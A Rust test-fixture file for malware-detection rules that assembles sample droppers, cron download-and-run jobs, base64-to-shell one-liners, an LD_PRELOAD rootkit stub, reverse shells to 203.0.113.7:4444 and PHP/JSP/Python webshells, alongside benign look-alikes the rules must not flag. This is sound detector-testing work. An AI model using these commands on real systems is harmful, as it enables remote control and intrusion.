//! What the shipped rules must find and must leave alone, put together at run time: nothing here is a
//! program that does harm, and no piece of this source is what a rule looks for.

use std::collections::BTreeSet;

/// Joins pieces that are harmless apart.
fn join(pieces: &[&str]) -> Vec<u8> {
    pieces.concat().into_bytes()
}

/// A shared object's header, as far as a rule looks at it, and strings behind it.
fn shared_object(strings: &[&str]) -> Vec<u8> {
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0".to_vec();
    elf.resize(64, 0);
    for string in strings {
        elf.extend_from_slice(string.as_bytes());
        elf.push(0);
    }
    elf
}

const TEXT: &str = "ZWNobyBoZWxsbyB3b3JsZCwgdGhpcyBpcyBhIHRlc3QgYW5kIG5vdGhpbmcgZWxzZQo=";

/// How many rules there are.
pub(crate) fn rules() -> usize {
    bad().iter().map(|(rule, _)| *rule).collect::<BTreeSet<_>>().len()
}

/// Rules, each with something that it finds.
pub(crate) fn bad() -> Vec<(&'static str, Vec<u8>)> {
    let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"];
    vec![
        ("EICAR_Test_File", join(&eicar)),
        ("EICAR_Test_File", join(&[eicar[0], eicar[1], "\r\n"])),
        (
            "Linux_Dropper_Hidden_Download",
            join(&[
                "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x -o ",
                "/tmp",
                "/.cache-x\n",
                "chmod +x ",
                "/tmp",
                "/.cache-x && /tmp/.cache-x &\n",
            ]),
        ),
        (
            "Linux_Dropper_Hidden_Download",
            join(&[
                "wget -q -O- http://203.0.113.7/x >",
                "/dev/shm",
                "/.d; chmod 755 ",
                "/dev/shm",
                "/.d\n",
            ]),
        ),
        (
            "Linux_Dropper_Address_To_Shell",
            join(&[
                "(crontab -l; echo '*/5 * * * * curl -s ",
                "http://203.0.113.7",
                "/i.sh | ",
                "sh') | ",
                "crontab -\n",
            ]),
        ),
        ("Linux_Base64_To_Shell", join(&["echo ", TEXT, " | base64 ", "-d | ", "bash\n"])),
        ("Linux_Base64_To_Shell", join(&["base64 ", "--decode <<< \"", TEXT, "\" | ", "sh\n"])),
        (
            "Linux_Preload_Rootkit",
            shared_object(&[
                &["/etc/", "ld.so.preload"].concat(),
                "dlsym",
                "readdir64",
                "/proc/self/fd/%d",
                "hidden",
            ]),
        ),
        ("Linux_Preload_Install", join(&["echo /tmp/lib", "x.so > /etc/", "ld.so.preload\n"])),
        ("Linux_Reverse_Shell_Dev_Tcp", join(&["bash -i >& /dev/", "tcp/203.0.113.7/4444 0>&1\n"])),
        (
            "Linux_Reverse_Shell_Dev_Tcp",
            join(&["exec 5<>/dev/", "tcp/203.0.113.7/4444; sh <&", "5 >&5 2>&5\n"]),
        ),
        (
            "Linux_Reverse_Shell_Fifo",
            join(&[
                "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i ",
                "2>&1 | nc 203.0.113.7 4444 >/tmp/f\n",
            ]),
        ),
        (
            "Python_Reverse_Shell",
            join(&[
                "import os, pty, socket\ns = socket.socket()\ns.connect((\"203.0.113.7\", 4444))\n",
                "for fd in (0, 1, 2):\n    pass\nos.dup2",
                "(s.fileno(), 0)\npty.spawn",
                "(\"/bin/sh\")\n",
            ]),
        ),
        ("PHP_Webshell_Request", join(&["<?", "php system($_", "GET['c']); ?>"])),
        ("PHP_Webshell_Request", join(&["<?", "php\n@eval(base64_decode($_", "POST[\"z0\"]));\n"])),
        (
            "PHP_Webshell_Packed",
            join(&["<?", "php eval(gzinflate(base64_decode", "('", TEXT, "')));"]),
        ),
        (
            "JSP_Webshell",
            join(&["<", "% Runtime.getRuntime().", "exec(request.getParameter", "(\"cmd\")); %>"]),
        ),
        (
            "JSP_Webshell",
            join(&[
                "<",
                "% String c = request.getParameter",
                "(\"c\");\nProcess p = new Process",
                "Builder(c)",
                ".start();\njava.io.InputStream i = p.getInput",
                "Stream();\nout.println(i.read()); %>",
            ]),
        ),
        (
            "Python_Webshell",
            join(&[
                "from flask import Flask, request\n@app.route('/')\ndef run():\n    return os.popen",
                "(request.args.get('c')).read()\n",
            ]),
        ),
        (
            "Python_Webshell",
            join(&[
                "import cgi, os\nform = cgi.FieldStorage()\nos.system",
                "(form.getvalue('c'))\n",
            ]),
        ),
    ]
}

/// What administrators and programmers write, and no rule may find.
pub(crate) fn clean() -> Vec<Vec<u8>> {
    let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"];
    vec![
        // A text about the test file, and the test file with something behind it.
        join(&["The test file is ", eicar[0], eicar[1], " and nothing else.\n"]),
        join(&[eicar[0], eicar[1], &".".repeat(100)]),
        // An installer: downloads, makes executable, runs; nothing hidden.
        join(&[
            "#!/bin/sh\ncurl -fsSL https://example.org/tool -o /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool\n",
        ]),
        // What many projects tell their users to do.
        join(&["curl --proto '=https' -sSf https://sh.example.org | ", "sh -s -- -y\n"]),
        // A local service's health check by cron.
        join(&[
            "*/5 * * * * root curl -fsS http://127.0.0.1:8080/health || systemctl restart app\n",
        ]),
        // Decoding a certificate, and a short text that goes to a shell's variable.
        join(&["echo ", TEXT, " | base64 ", "-d > /etc/ssl/ca.pem\n"]),
        join(&["value=$(echo aGVsbG8= | base64 ", "-d)\nsh -c \"echo $value\"\n"]),
        // The loader knows the preload file too; a program that lists folders knows the rest.
        shared_object(&[&["/etc/", "ld.so.preload"].concat(), "LD_PRELOAD", "/proc/self/fd/%d"]),
        shared_object(&["dlsym", "readdir64", "/proc/self/fd/%d", "/proc/%d/cmdline"]),
        // An allocator for every program, from where libraries belong.
        join(&["echo /usr/lib/libjemalloc.so.2 > /etc/", "ld.so.preload\n"]),
        // Waiting for a port, and asking a local server, by bash alone.
        join(&["until (exec 3<>/dev/", "tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n"]),
        join(&[
            "exec 3<>/dev/",
            "tcp/localhost/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n",
        ]),
        // A pipe between two programs.
        join(&[
            "mkfifo /run/app/log\nlogger -t app < /run/app/log &\nexec app > /run/app/log 2>&1\n",
        ]),
        // A client; and a daemon that puts its output into its log.
        join(&[
            "import socket\ns = socket.socket()\ns.connect((\"localhost\", 80))\ns.send(b\"hello\")\n",
        ]),
        join(&["import os\nlog = open('/var/log/d.log', 'a')\nos.dup2", "(log.fileno(), 1)\n"]),
        // Pages that use the request as pages do.
        join(&["<?", "php echo htmlspecialchars($_", "GET['name']); ?>"]),
        join(&["<?", "php $db->exec($_", "POST['sql']); curl_exec($_", "GET['x']); ?>"]),
        join(&["<?", "php system('convert ' . escapeshellarg($_", "POST['file'])); ?>"]),
        join(&["<?", "php $icon = base64_decode", "('", TEXT, "'); ?>"]),
        join(&["<", "% out.println(request.getParameter", "(\"name\")); %>"]),
        join(&["class Run { void go() { new Process", "Builder(\"ls\").inheritIO(); } }"]),
        join(&[
            "from flask import request\nname = request.args.get('name')\nsubprocess.run",
            "(['id', '-u'])\n",
        ]),
    ]
}
